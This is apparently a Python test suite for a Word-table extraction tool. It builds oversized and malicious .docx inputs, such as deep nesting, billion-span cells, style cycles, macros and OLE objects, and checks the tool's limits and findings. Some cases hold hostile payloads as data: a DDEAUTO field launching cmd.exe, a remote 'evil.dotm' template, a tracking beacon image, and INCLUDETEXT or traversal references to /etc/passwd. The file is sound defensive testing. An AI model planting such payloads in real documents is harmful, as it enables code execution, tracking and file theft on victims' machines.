"""Word files: nesting, amplification by numbers and styles, and what a file carries besides its table."""

from __future__ import annotations

from .build import HEADINGS, ROW, TITLE, paragraph, relation, relations, row, word
from .cases import case


def nested_tables(depth: int) -> str:
    """A cell with a table in it, with a table in it …"""
    return "<w:tbl><w:tr><w:tc>" * depth + paragraph("底") + "</w:tc></w:tr></w:tbl>" * depth


def numbered(form: str, start: int, text: str = "%1", count: int = 1) -> bytes:
    """Paragraphs above the table with an automatic number."""
    numbering = (
        '<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="1">'
        f'<w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="{form}"/><w:lvlText w:val="{text}"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    lines = '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>项</w:t></w:r></w:p>' * count
    return word(before=lines, links=relation("n", "numbering", "numbering.xml"), more={"word/numbering.xml": numbering.encode()})


def styled(styles: str) -> bytes:
    """A Word file with styles of its own."""
    part = f'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{styles}</w:styles>'
    return word(links=relation("s", "styles", "styles.xml"), more={"word/styles.xml": part.encode()})


def _no_body() -> bytes:
    document = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    return word(more={"word/document.xml": document})


def with_goal(goal: str) -> str:
    """A body whose table has a row with this goal."""
    return f"{paragraph(TITLE)}<w:tbl>{row(*HEADINGS)}{row('1', '曹临', goal, *ROW[3:])}</w:tbl>"


def field(instruction: str) -> str:
    """A paragraph with a field in runs."""
    parts = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in (instruction[:4], instruction[4:]))
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{parts}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>注：结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


case("word-tables-in-tables-60-deep", ".docx", lambda: word(after=nested_tables(60)), 0, "1 records")
case("word-tables-in-tables-100-deep", ".docx", lambda: word(after=nested_tables(100)), 3, "limit xml-depth=256")
case(
    "word-controls-in-controls",
    ".docx",
    lambda: word(after="<w:sdt><w:sdtContent>" * 120 + paragraph("底") + "</w:sdtContent></w:sdt>" * 120),
    0,
    "1 records",
)
case("word-depth-raised-by-flag", ".docx", lambda: word(after=nested_tables(100)), 0, "1 records", "xml-depth=1000")
case("word-depth-lowered-by-flag", ".docx", lambda: word(after=nested_tables(10)), 3, "limit xml-depth=20", "xml-depth=20")
case("word-very-deep-allowed", ".docx", lambda: word(after=nested_tables(600)), 3, "nested too deeply", "xml-depth=2000")
case(
    "word-span-of-a-billion",
    ".docx",
    lambda: word(
        after=f"<w:tbl>{row('<w:tc><w:tcPr><w:gridSpan w:val=' + chr(34) + '999999999' + chr(34) + '/></w:tcPr><w:p/></w:tc>')}</w:tbl>"
    ),
    0,
    "1 records",
)
case("word-row-of-20000-cells", ".docx", lambda: word(after=f"<w:tbl>{row(*['x'] * 20_000)}</w:tbl>"), 3, "limit columns=16384")
case(
    "word-300000-rows",
    ".docx",
    lambda: word(after="<w:tbl>" + "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 210_000 + "</w:tbl>"),
    3,
    "limit rows=200000",
    "ratio=1000",
    seconds=8,
    megabytes=900,
)
case("word-100000-paragraphs", ".docx", lambda: word(after=paragraph("注：x") * 100_000), 0, "1 records", seconds=12, megabytes=700)
case(
    "word-cell-of-200000-characters",
    ".docx",
    lambda: word(f"{paragraph(TITLE)}<w:tbl>{row(*HEADINGS)}{row('1', '曹临', '目' * 200_000, *ROW[3:])}</w:tbl>"),
    3,
    "limit cell-length=100000",
)
case("word-text-of-11-megabytes", ".docx", lambda: word(after=paragraph("x" * 11_000_000)), 3, "limit cell-length=100000", "ratio=2000")
case("word-attribute-of-11-megabytes", ".docx", lambda: word(after=f'<w:p w:rsidR="{"0" * 11_000_000}"/>'), 3, "damaged", "ratio=2000")
case(
    "word-300000-attributes",
    ".docx",
    lambda: word(after="<w:p " + " ".join(f'a{i}="1"' for i in range(300_000)) + "/>"),
    0,
    "1 records",
    seconds=3,
)
case("word-million-nodes-under-a-limit", ".docx", lambda: word(after="<w:a/>" * 600_000), 3, "limit xml-nodes=500000", "xml-nodes=500000")
case(
    "word-style-based-on-itself",
    ".docx",
    lambda: styled('<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>'),
    0,
    "1 records",
)
case(
    "word-chain-of-3000-styles",
    ".docx",
    lambda: styled("".join(f'<w:style w:styleId="s{i}"><w:basedOn w:val="s{i + 1}"/></w:style>' for i in range(3000))),
    0,
    "1 records",
)
case("word-number-of-38-million-letters", ".docx", lambda: numbered("lowerLetter", 999_999_999), 0, "R114")
case("word-roman-number-of-a-billion", ".docx", lambda: numbered("upperRoman", 999_999_999), 0, "R114")
case(
    "word-label-of-90000-times-3000",
    ".docx",
    lambda: numbered("decimal", 1, "第" * 90_000, 3000),
    3,
    "limit characters=20000000",
    seconds=4,
)
case("word-label-of-200000", ".docx", lambda: numbered("decimal", 1, "第" * 200_000), 3, "limit cell-length=100000")
case(
    "word-number-of-a-list-that-is-not-there",
    ".docx",
    lambda: word(before='<w:p><w:pPr><w:numPr><w:ilvl w:val="99"/><w:numId w:val="77"/></w:numPr></w:pPr><w:r><w:t>单位</w:t></w:r></w:p>'),
    0,
    "1 records",
)
case("word-field-without-end", ".docx", lambda: word(after='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'), 0, "R123")
case("word-end-without-field", ".docx", lambda: word(after='<w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), 0, "R123")
case("word-no-body", ".docx", _no_body, 3, "no body")
case("word-no-table", ".docx", lambda: word(paragraph(TITLE)), 3, "no table")
case("word-macro", ".docm", lambda: word(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(100)}), 0, "R301")
case("word-ole-object", ".docx", lambda: word(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0MZ"}), 0, "R303")
case("word-activex", ".docx", lambda: word(more={"word/activeX/activeX1.bin": b"x"}), 0, "R303")
case(
    "word-remote-template",
    ".docx",
    lambda: word(
        more={
            "word/_rels/settings.xml.rels": relations(
                relation("r9", "attachedTemplate", "http://203.0.113.1/evil.dotm", external=True)
            ).encode()
        }
    ),
    0,
    "R302",
)
case("word-remote-picture", ".docx", lambda: word(links=relation("r9", "image", "http://203.0.113.1/beacon.png", external=True)), 0, "R302")
case(
    "word-remote-frame-on-a-share",
    ".docx",
    lambda: word(links=relation("r9", "frame", "file://203.0.113.1/share/x.htm", external=True)),
    0,
    "R302",
)
case(
    "word-remote-main-part",
    ".docx",
    lambda: word(
        more={"_rels/.rels": relations(relation("r1", "officeDocument", "http://203.0.113.1/document.xml", external=True)).encode()}
    ),
    3,
    "no Word file",
)
case(
    "word-main-part-outside",
    ".docx",
    lambda: word(more={"_rels/.rels": relations(relation("r1", "officeDocument", "../../../../etc/passwd")).encode()}),
    3,
    "no Word file",
)
case(
    "word-main-part-is-the-relations",
    ".docx",
    lambda: word(more={"_rels/.rels": relations(relation("r1", "officeDocument", "_rels/.rels")).encode()}),
    3,
    "no Word file",
)
case("word-hyperlink", ".docx", lambda: word(links=relation("r9", "hyperlink", "https://www.gov.cn/", external=True)), 0, "no findings")
case("word-dde-field", ".docx", lambda: word(after=field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')), 0, "R302")
case("word-includepicture-field", ".docx", lambda: word(after=field("INCLUDEPICTURE http://203.0.113.1/a.png")), 0, "R302")
case(
    "word-includetext-simple-field",
    ".docx",
    lambda: word(after='<w:p><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"><w:r><w:t>注：x</w:t></w:r></w:fldSimple></w:p>'),
    0,
    "R302",
)
case(
    "word-other-file-in-the-text",
    ".docx",
    lambda: word(after='<w:altChunk r:id="r9"/>', links=relation("r9", "aFChunk", "http://203.0.113.1/x.html", external=True)),
    0,
    "R121",
)
case(
    "word-bidi-override-in-a-name",
    ".docx",
    lambda: word(with_goal("目标\u202e标目")),
    0,
    "R012",
)
case(
    "word-noncharacter",
    ".docx",
    lambda: word(with_goal("目\ufdd0标")),
    3,
    "U+FDD0",
)
case("word-5000-tables", ".docx", lambda: word(after=f"<w:tbl>{row('甲', '乙')}</w:tbl>" * 5000), 0, "R101", seconds=6)
